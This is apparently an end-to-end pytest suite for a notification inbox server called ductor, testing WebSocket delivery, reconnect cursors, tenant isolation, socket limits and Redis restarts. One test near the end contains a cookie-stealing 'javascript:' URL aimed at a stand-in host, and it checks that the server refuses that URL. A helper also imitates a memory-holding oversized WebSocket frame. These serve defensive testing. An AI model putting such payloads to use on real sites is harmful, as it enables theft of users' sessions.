"""The inbox end to end: real `ductor` processes, the `websockets` library as the
client. NOTIFY steps' notifications arrive live (the p99 is printed); a client
that reconnects with its cursor gets exactly what it missed; two processes on
one Postgres and Redis push to each other; a Redis restart loses nothing; a
snooze ends after a server restart; other subscribers and tenants see 404."""

from __future__ import annotations

import asyncio
import base64
import os
import statistics
import struct
import time
from collections.abc import AsyncIterator
from contextlib import AsyncExitStack, asynccontextmanager
from typing import Any

import httpx
import msgspec
import pytest
from websockets.asyncio.client import ClientConnection, connect
from websockets.exceptions import ConnectionClosedError

from ductor_server.cli_server import create_key
from ductor_server.engine.inboxfeed import MAX_PER_SUBSCRIBER
from ductor_server.services.inbox import subscriber_token
from ductor_server.storage import open_store
from ductor_server.transports.rest.inbox import MAX_SOCKET_MESSAGE

from .conftest import PrivateRedis, ServerProcess

pytestmark = pytest.mark.timeout(90)

PING: dict[str, Any] = {
    "family_slug": "ping",
    "steps": [
        {
            "ref": "tell",
            "type": "STEP_TYPE_NOTIFY",
            "args": {
                "recipients": "input.to",
                "title": "'ping ' + string(input.i)",
                "data": "{'i': input.i}",
                "feed": "pings",
            },
        }
    ],
    "edges": [],
}


def _tenant(server: ServerProcess) -> str:
    return "acme" if server.database_url else "dev"


def _http(server: ServerProcess, key: str | None = None) -> httpx.AsyncClient:
    return httpx.AsyncClient(
        base_url=server.url,
        headers={"Authorization": f"Bearer {key or server.api_key}"},
        timeout=30,
    )


async def _secret(server: ServerProcess, key: str | None = None) -> str:
    async with _http(server, key) as http:
        response = await http.get("/v1/inbox/secret")
        assert response.status_code == 200, response.text
        return str(response.json()["secret"])


async def _send(http: httpx.AsyncClient, subscriber: str, title: str) -> dict[str, Any]:
    response = await http.post(
        "/v1/inbox/notifications", json={"subscriber_id": subscriber, "title": title}
    )
    assert response.status_code == 201, response.text
    return dict(response.json()["notification"])


class Feed:
    """One subscriber's WebSocket."""

    def __init__(self, socket: ClientConnection) -> None:
        self.socket = socket
        self.counts: dict[str, Any] | None = None

    async def frame(self, within: float) -> dict[str, Any]:
        raw = await asyncio.wait_for(self.socket.recv(), within)
        message: dict[str, Any] = msgspec.json.decode(raw)
        return message

    async def change(self, within: float = 10.0) -> dict[str, Any]:
        """The next change (counts frames are kept aside)."""
        deadline = time.monotonic() + within
        while True:
            message = await self.frame(max(deadline - time.monotonic(), 0.001))
            if message["type"] == "counts":
                self.counts = message
            elif message["type"] == "change":
                return message
            else:
                raise AssertionError(f"unexpected frame {message}")

    async def changes(self, count: int, within: float = 10.0) -> list[dict[str, Any]]:
        return [await self.change(within) for _ in range(count)]

    async def quiet(self, within: float) -> None:
        """Assert no change arrives for `within` seconds."""
        with pytest.raises(TimeoutError):
            await self.change(within)


@asynccontextmanager
async def feed(
    server: ServerProcess, tenant: str, subscriber: str, secret: str, *, after: int = 0
) -> AsyncIterator[Feed]:
    url = server.url.replace("http://", "ws://") + "/v1/inbox/me/ws"
    async with connect(url, open_timeout=10) as socket:
        auth = {
            "type": "auth",
            "tenant_id": tenant,
            "subscriber_id": subscriber,
            "token": subscriber_token(secret, subscriber),
            "after": after,
        }
        await socket.send(msgspec.json.encode(auth).decode())
        opened = Feed(socket)
        ready = await opened.frame(10)
        assert ready == {"type": "ready", "cursor": after}, ready
        yield opened


def _p(values: list[float], q: float) -> float:
    ordered = sorted(values)
    return ordered[min(len(ordered) - 1, max(0, round(q * len(ordered)) - 1))]


@pytest.mark.serial  # its latency figure means something only on a quiet machine
async def test_notify_steps_arrive_live_and_in_order(sqlite_server: ServerProcess) -> None:
    server = await asyncio.to_thread(sqlite_server.start)
    tenant, secret = _tenant(server), await _secret(server)
    async with _http(server) as http:
        assert (await http.post("/v1/workflows", json=PING)).status_code in (200, 201)
        async with feed(server, tenant, "ann", secret) as ann:
            latencies = []
            for i in range(200):
                started = time.perf_counter()
                response = await http.post(
                    "/v1/runs", json={"family_slug": "ping", "input": {"to": ["ann"], "i": i}}
                )
                assert response.status_code == 201, response.text
                change = await ann.change()
                latencies.append(time.perf_counter() - started)
                assert change["seq"] == i + 1
                assert change["kind"] == "created"
                assert change["notification"]["data"] == {"i": i}
                assert change["notification"]["title"] == f"ping {i}"
    p50, p99 = _p(latencies, 0.5) * 1000, _p(latencies, 0.99) * 1000
    print(f"\nNOTIFY step -> WebSocket over 200 notifications: p50 {p50:.1f} ms, p99 {p99:.1f} ms")
    # Trigger request to push received, on a shared 2-core machine; the target is 200 ms.
    assert p99 < 1000


async def test_a_reconnect_with_the_cursor_gets_exactly_what_was_missed(
    sqlite_server: ServerProcess,
) -> None:
    server = await asyncio.to_thread(sqlite_server.start)
    tenant, secret = _tenant(server), await _secret(server)
    async with _http(server) as http:
        async with feed(server, tenant, "ann", secret) as ann:
            for i in range(5):
                await _send(http, "ann", f"early {i}")
            seen = await ann.changes(5)
        cursor = seen[-1]["seq"]
        assert cursor == 5
        for i in range(50):
            await _send(http, "ann", f"missed {i}")
        async with feed(server, tenant, "ann", secret, after=cursor) as ann:
            missed = await ann.changes(50)
            await ann.quiet(0.5)
        assert [c["seq"] for c in missed] == list(range(6, 56))
        assert [c["notification"]["title"] for c in missed] == [f"missed {i}" for i in range(50)]
        assert ann.counts is not None
        assert ann.counts["all"]["unseen"] == 55
        # The polling fallback reads the same log from the same cursor.
        headers = {
            "X-Ductor-Tenant": tenant,
            "X-Ductor-Subscriber": "ann",
            "X-Ductor-Subscriber-Token": subscriber_token(secret, "ann"),
        }
        polled = await http.get(
            "/v1/inbox/me/changes", params={"after": cursor, "limit": 200}, headers=headers
        )
        assert [c["seq"] for c in polled.json()["changes"]] == list(range(6, 56))


async def _mint(server: ServerProcess, tenant: str) -> str:
    assert server.database_url is not None
    store = open_store(server.database_url)
    await store.open()
    try:
        return await create_key(store, tenant, name="test")
    finally:
        await store.close()


async def test_other_subscribers_and_tenants_see_nothing_over_the_websocket(
    postgres_server: ServerProcess,
) -> None:
    server = await asyncio.to_thread(postgres_server.start)
    tenant, secret = _tenant(server), await _secret(server)
    other_key = await _mint(server, "other")
    other_secret = await _secret(server, other_key)
    url = server.url.replace("http://", "ws://") + "/v1/inbox/me/ws"
    for claimed_tenant, token in (
        (tenant, subscriber_token(secret, "bob")),  # bob's token for ann
        (tenant, subscriber_token(other_secret, "ann")),  # another tenant's secret
        ("other", subscriber_token(secret, "ann")),  # right secret, wrong tenant
        ("nobody", "0" * 64),
    ):
        async with connect(url, open_timeout=10) as socket:
            auth = {"type": "auth", "tenant_id": claimed_tenant, "subscriber_id": "ann"}
            await socket.send(msgspec.json.encode({**auth, "token": token}).decode())
            refused = msgspec.json.decode(await asyncio.wait_for(socket.recv(), 10))
            assert refused["type"] == "error"
            assert refused["status"] == 404
            assert refused["code"] == "inbox.not_found"
            await asyncio.wait_for(socket.wait_closed(), 10)
            assert socket.close_code == 4404
    async with (
        _http(server) as http,
        _http(server, other_key) as other,
        feed(server, tenant, "bob", secret) as bob,
        feed(server, "other", "ann", other_secret) as other_ann,
        feed(server, tenant, "ann", secret) as ann,
    ):
        mine = await _send(http, "ann", "only for ann")
        assert (await ann.change())["notification"]["id"] == mine["id"]
        await bob.quiet(1.0)
        await other_ann.quiet(0.2)
        theirs = await _send(other, "ann", "other tenant's ann")
        assert (await other_ann.change())["notification"]["id"] == theirs["id"]
        await ann.quiet(0.5)
    # A NUL in a subscriber call's parameter is refused naming it, as in any /v1
    # call (PostgreSQL text cannot hold one).
    me = {
        "X-Ductor-Tenant": tenant,
        "X-Ductor-Subscriber": "ann",
        "X-Ductor-Subscriber-Token": subscriber_token(secret, "ann"),
    }
    async with httpx.AsyncClient(base_url=server.url, headers=me, timeout=30) as subscriber:
        for path, name in (
            ("/v1/inbox/me/notifications/n%00x", "notification_id"),
            ("/v1/inbox/me/notifications?feed=a%00b", "feed"),
        ):
            refused = await subscriber.get(path)
            assert refused.status_code == 422, (path, refused.text)
            assert refused.json()["code"] == "request.invalid"
            assert refused.json()["details"]["path"] == name


async def test_a_subscriber_holds_at_most_twenty_live_sockets(sqlite_server: ServerProcess) -> None:
    server = await asyncio.to_thread(sqlite_server.start)
    tenant, secret = _tenant(server), await _secret(server)
    url = server.url.replace("http://", "ws://") + "/v1/inbox/me/ws"
    async with AsyncExitStack() as stack:
        held = [
            await stack.enter_async_context(feed(server, tenant, "ann", secret))
            for _ in range(MAX_PER_SUBSCRIBER)
        ]
        async with connect(url, open_timeout=10) as socket:
            auth = {"type": "auth", "tenant_id": tenant, "subscriber_id": "ann", "after": 0}
            await socket.send(
                msgspec.json.encode({**auth, "token": subscriber_token(secret, "ann")}).decode()
            )
            refused = msgspec.json.decode(await asyncio.wait_for(socket.recv(), 10))
            assert (refused["type"], refused["status"]) == ("error", 429)
            assert refused["code"] == "inbox.socket_limit"
            assert "20 live inbox sockets" in refused["message"]
            assert refused["details"] == {"per": "subscriber", "limit": MAX_PER_SUBSCRIBER}
            await asyncio.wait_for(socket.wait_closed(), 10)
            assert socket.close_code == 4429
        # Another subscriber is not held up, and every held socket still works.
        async with _http(server) as http, feed(server, tenant, "bob", secret) as bob:
            sent = await _send(http, "ann", "to every tab")
            for opened in held:
                assert (await opened.change())["notification"]["id"] == sent["id"]
            await bob.quiet(0.2)
        await held[0].socket.close()
        # Its place is free once the server has seen it close.
        deadline = time.monotonic() + 10
        while True:
            try:
                async with feed(server, tenant, "ann", secret):
                    break
            except AssertionError:
                if time.monotonic() > deadline:
                    raise
                await asyncio.sleep(0.1)


async def _announce_text_frame(
    server: ServerProcess, length: int
) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    """Open a WebSocket by hand and send the header of a text frame announcing
    `length` bytes and none of its payload, as a client that means to hold the
    server's memory with a message it never finishes would."""
    host, port = server.url.removeprefix("http://").rsplit(":", 1)
    reader, writer = await asyncio.open_connection(host, int(port))
    key = base64.b64encode(os.urandom(16)).decode()
    upgrade = (
        "GET /v1/inbox/me/ws HTTP/1.1\r\nHost: ductor\r\nUpgrade: websocket\r\n"
        f"Connection: Upgrade\r\nSec-WebSocket-Key: {key}\r\nSec-WebSocket-Version: 13\r\n"
    )
    writer.write(upgrade.encode() + b"\r\n")
    head = await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 10)
    assert head.startswith(b"HTTP/1.1 101"), head
    writer.write(bytes([0x81, 0xFF]) + struct.pack("!Q", length) + os.urandom(4))
    await writer.drain()
    return reader, writer


async def test_a_socket_message_over_64_kib_closes_the_socket_with_1009(
    sqlite_server: ServerProcess,
) -> None:
    # Client messages are an auth and pings: a bigger one is refused before the
    # server reads it. Each of the 1,000 sockets that may wait for their auth could
    # otherwise hold a 16 MiB message it never finishes, 16 GB in all.
    server = await asyncio.to_thread(sqlite_server.start)
    tenant, secret = _tenant(server), await _secret(server)
    reader, writer = await _announce_text_frame(server, 16 * 1024 * 1024)
    close = await asyncio.wait_for(reader.read(64), 5)
    writer.close()
    assert close[0] == 0x88, close  # a close frame, at once
    assert struct.unpack("!H", close[2:4]) == (1009,)
    assert b"exceeds limit of 65536 bytes" in close[4:]
    async with feed(server, tenant, "ann", secret) as ann:
        assert (await ann.frame(10))["type"] == "counts"
        start, end = '{"type": "ping", "pad": "', '"}'
        ping = start + "x" * (MAX_SOCKET_MESSAGE - len(start) - len(end)) + end
        assert len(ping) == MAX_SOCKET_MESSAGE
        await ann.socket.send(ping)
        assert await ann.frame(10) == {"type": "pong"}
        await ann.socket.send(ping + " ")
        with pytest.raises(ConnectionClosedError):
            await ann.frame(10)
        assert ann.socket.close_code == 1009
    async with _http(server) as http, feed(server, tenant, "ann", secret) as ann:
        sent = await _send(http, "ann", "still served")
        assert (await ann.change())["notification"]["id"] == sent["id"]


ASK: dict[str, Any] = {
    "family_slug": "ask",
    "steps": [
        {
            "ref": "ask",
            "type": "STEP_TYPE_NOTIFY",
            "args": {
                "recipients": "input.to",
                "title": "'Approve?'",
                "ctas": [
                    {"label": "'Approve'", "action": "approve"},
                    {"label": "'Reject'", "action": "reject"},
                ],
                "await_action": True,
                "timeout": "1h",
            },
        }
    ],
    "edges": [],
}


async def _mine(subscriber: httpx.AsyncClient) -> list[dict[str, Any]]:
    listed: list[dict[str, Any]] = (await subscriber.get("/v1/inbox/me/notifications")).json()[
        "notifications"
    ]
    return listed


async def test_recipients_clicking_their_copies_at_once_answer_the_run_once(
    postgres_server: ServerProcess,
) -> None:
    # "The first click wins": eight recipients click their own copies, each three
    # times and both CTAs, all at once against a real server; one click resumes
    # the run, every other is a 200 that resumes nothing.
    server = await asyncio.to_thread(postgres_server.start)
    tenant, secret = _tenant(server), await _secret(server)
    people = [f"approver-{i}" for i in range(8)]
    async with _http(server) as http, AsyncExitStack() as stack:
        assert (await http.post("/v1/workflows", json=ASK)).status_code == 201
        run = await http.post("/v1/runs", json={"family_slug": "ask", "input": {"to": people}})
        run_id = run.json()["id"]
        clients: dict[str, httpx.AsyncClient] = {}
        copies: dict[str, str] = {}
        for person in people:
            me = {
                "X-Ductor-Tenant": tenant,
                "X-Ductor-Subscriber": person,
                "X-Ductor-Subscriber-Token": subscriber_token(secret, person),
            }
            client = httpx.AsyncClient(base_url=server.url, headers=me, timeout=30)
            clients[person] = await stack.enter_async_context(client)
            deadline = time.monotonic() + 10
            while not (listed := await _mine(clients[person])):
                assert time.monotonic() < deadline, f"no notification for {person}"
                await asyncio.sleep(0.05)
            copies[person] = listed[0]["id"]
        clicks = await asyncio.gather(
            *(
                clients[person].post(
                    f"/v1/inbox/me/notifications/{copies[person]}/ctas/{i % 2}/click"
                )
                for i in range(3)
                for person in people
            )
        )
        assert [c.status_code for c in clicks] == [200] * len(clicks), [c.text for c in clicks]
        answers = [c.json() for c in clicks]
        [winner] = [a for a in answers if a["resumed"]]
        assert sorted(a["duplicate"] for a in answers) == [False] * 8 + [True] * 16
        deadline = time.monotonic() + 20
        while (done := (await http.get(f"/v1/runs/{run_id}")).json())["status"] == (
            "RUN_STATUS_RUNNING"
        ):
            assert time.monotonic() < deadline, done
            await asyncio.sleep(0.05)
        assert done["status"] == "RUN_STATUS_SUCCEEDED"
        output = done["output"]["ask"]
        acted = winner["notification"]["acted"]
        assert (output["action"], output["subscriber_id"], output["cta"]) == (
            acted["action"],
            acted["subscriber_id"],
            acted["cta"],
        )
        assert output["notification_id"] == winner["notification"]["id"]
        history = (await http.get(f"/v1/runs/{run_id}/history")).json()
        kinds = [h["kind"] for h in history]
        assert (kinds.count("signal.received"), kinds.count("step.succeeded")) == (1, 1)


def _redis_env(url: str, prefix: str) -> dict[str, str]:
    return {"DUCTOR_REDIS_URL": url, "DUCTOR_REDIS_PREFIX": prefix}


async def test_a_client_on_one_process_receives_what_another_created(
    make_server: Any, postgres_url: str, redis_url: str, redis_prefix: str
) -> None:
    a = make_server("a", database_url=postgres_url, env=_redis_env(redis_url, redis_prefix))
    b = make_server("b", database_url=postgres_url, env=_redis_env(redis_url, redis_prefix))
    await asyncio.to_thread(a.start)
    await asyncio.to_thread(b.start)
    tenant, secret = "acme", await _secret(a)
    async with _http(a) as on_a, feed(b, tenant, "ann", secret) as ann:
        assert (await on_a.post("/v1/workflows", json=PING)).status_code in (200, 201)
        latencies = []
        # The first of each kind is not timed: the first run starts A's engine
        # worker process (about 1 s on an idle machine, 3 s once under a full CI).
        for i in range(22):
            started = time.perf_counter()
            if i % 2:
                await _send(on_a, "ann", f"sent {i}")
            else:
                run = {"family_slug": "ping", "input": {"to": "ann", "i": i}}
                assert (await on_a.post("/v1/runs", json=run)).status_code == 201
            change = await ann.change()
            if i >= 2:
                latencies.append(time.perf_counter() - started)
            assert change["seq"] == i + 1
    print(f"\nA -> Redis -> B: median {statistics.median(latencies) * 1000:.1f} ms")
    # Well under B's 5 s safety poll: the push came through Redis.
    assert max(latencies) < 2.5


async def test_a_redis_restart_mid_stream_loses_nothing(
    make_server: Any, postgres_url: str, private_redis: PrivateRedis
) -> None:
    env = _redis_env(private_redis.url, "inbox:")
    a = make_server("a", database_url=postgres_url, env=env)
    b = make_server("b", database_url=postgres_url, env=env)
    await asyncio.to_thread(a.start)
    await asyncio.to_thread(b.start)
    tenant, secret = "acme", await _secret(a)
    titles = [f"n{i}" for i in range(30)]
    async with _http(a) as on_a:
        async with feed(b, tenant, "ann", secret) as ann:
            for title in titles[:10]:
                await _send(on_a, "ann", title)
            live = await ann.changes(10)
            private_redis.kill9()
            for title in titles[10:20]:
                await _send(on_a, "ann", title)
            private_redis.start()
            for title in titles[20:]:
                await _send(on_a, "ann", title)
            # B's subscription comes back and wakes its sessions (or its safety
            # poll does): the open socket catches up by itself.
            live += await ann.changes(20, within=15)
        assert [c["notification"]["title"] for c in live] == titles
        assert [c["seq"] for c in live] == list(range(1, 31))
        # And a client that reconnects from any cursor reads the rest from the store.
        async with feed(b, tenant, "ann", secret, after=12) as again:
            rest = await again.changes(18)
            await again.quiet(0.5)
        assert [c["seq"] for c in rest] == list(range(13, 31))


async def test_a_snooze_ends_unseen_after_a_server_restart(sqlite_server: ServerProcess) -> None:
    server = await asyncio.to_thread(sqlite_server.start)
    tenant, secret = _tenant(server), await _secret(server)
    headers = {
        "X-Ductor-Tenant": tenant,
        "X-Ductor-Subscriber": "ann",
        "X-Ductor-Subscriber-Token": subscriber_token(secret, "ann"),
    }
    async with _http(server) as http:
        made = await _send(http, "ann", "later")
        path = f"/v1/inbox/me/notifications/{made['id']}"
        seen = await http.patch(path, json={"seen": True}, headers=headers)
        assert seen.json()["seen"] is True
        snoozed = await http.patch(path, json={"snooze": "3s"}, headers=headers)
        assert snoozed.status_code == 200, snoozed.text
        assert snoozed.json()["snoozed_until"] is not None
        counts = await http.get("/v1/inbox/me/counts", headers=headers)
        assert counts.json()["all"]["total"] == 0
    server.kill9()
    await asyncio.sleep(3.5)
    await asyncio.to_thread(server.start)
    deadline = time.monotonic() + 20
    async with _http(server) as http:
        while True:
            back = (await http.get(path, headers=headers)).json()
            if back["snoozed_until"] is None:
                break
            assert time.monotonic() < deadline, back
            await asyncio.sleep(0.1)
        assert back["seen"] is False
        counts = await http.get("/v1/inbox/me/counts", headers=headers)
        assert counts.json()["all"] == {"total": 1, "unseen": 1, "unread": 1}
    async with feed(server, tenant, "ann", secret, after=made["seq"]) as ann:
        updates = await ann.changes(3)
    assert [c["notification"]["seen"] for c in updates] == [True, True, False]
    assert updates[-1]["notification"]["snoozed_until"] is None


async def test_a_script_link_never_reaches_a_subscribers_socket(server: ServerProcess) -> None:
    server = await asyncio.to_thread(server.start)
    tenant, secret = _tenant(server), await _secret(server)
    link = {
        "family_slug": "link",
        "steps": [
            {
                "ref": "tell",
                "type": "STEP_TYPE_NOTIFY",
                "args": {
                    "recipients": "'ann'",
                    "title": "'t'",
                    "ctas": [{"label": "input.label", "url": "input.url"}],
                },
            }
        ],
        "edges": [],
    }
    script = "javascript:fetch('//evil.example/?'+document.cookie)"
    async with _http(server) as http, feed(server, tenant, "ann", secret) as ann:
        for cta, pointer in (
            ({"label": "Open", "url": script}, "/ctas/0/url"),
            ({"label": "x" * 201, "url": "https://shop.example/"}, "/ctas/0/label"),
        ):
            body = {"subscriber_id": "ann", "title": "t", "ctas": [cta]}
            refused = await http.post("/v1/inbox/notifications", json=body)
            assert refused.status_code == 422, refused.text
            assert refused.json()["details"] == {"pointer": pointer}
        avatar = {"subscriber_id": "ann", "title": "t", "avatar": "data:image/svg+xml,<svg/>"}
        refused = await http.post("/v1/inbox/notifications", json=avatar)
        assert refused.json()["details"] == {"pointer": "/avatar"}, refused.text
        assert (await http.post("/v1/workflows", json=link)).status_code in (200, 201)
        bad = {"family_slug": "link", "input": {"label": "Open", "url": script}}
        run = (await http.post("/v1/runs", json=bad)).json()
        deadline = time.monotonic() + 20
        while (done := (await http.get(f"/v1/runs/{run['id']}")).json())["status"] not in (
            "RUN_STATUS_SUCCEEDED",
            "RUN_STATUS_FAILED",
        ):
            assert time.monotonic() < deadline, done
            await asyncio.sleep(0.05)
        assert done["status"] == "RUN_STATUS_FAILED"
        assert done["steps"][0]["error"]["code"] == "notify.bad_value"
        good = {"family_slug": "link", "input": {"label": "Open", "url": "https://shop.example/"}}
        assert (await http.post("/v1/runs", json=good)).status_code == 201
        change = await ann.change()
    # The first change the socket saw is the good notification: nothing else was written.
    assert change["seq"] == 1
    assert change["notification"]["ctas"][0]["url"] == "https://shop.example/"


async def test_runs_notifying_the_same_people_in_other_orders_all_start(
    postgres_server: ServerProcess,
) -> None:
    # A NOTIFY step locks each recipient's sequence as it writes to them; steps
    # that took the same people in other orders deadlocked on PostgreSQL, and
    # all but one of these concurrent starts answered 503 storage.error.
    server = await asyncio.to_thread(postgres_server.start)
    people = [f"p{i}" for i in range(30)]
    orders = [people[i:] + people[:i] for i in range(0, 30, 4)]
    orders += [list(reversed(order)) for order in orders]
    async with _http(server) as http:
        published = await http.post("/v1/workflows", json={**PING, "family_slug": "orders"})
        assert published.status_code == 201, published.text
        started = await asyncio.gather(
            *(
                http.post("/v1/runs", json={"family_slug": "orders", "input": {"to": to, "i": n}})
                for n, to in enumerate(orders)
            )
        )
        assert [r.status_code for r in started] == [201] * len(orders), [
            r.text[:200] for r in started if r.status_code != 201
        ]
        secret = await _secret(server)
        for who in people:
            me = {
                "X-Ductor-Tenant": _tenant(server),
                "X-Ductor-Subscriber": who,
                "X-Ductor-Subscriber-Token": subscriber_token(secret, who),
            }
            answer = await http.get("/v1/inbox/me/changes", headers=me)
            seqs = [c["seq"] for c in answer.json()["changes"]]
            assert seqs == list(range(1, len(orders) + 1)), (who, seqs)
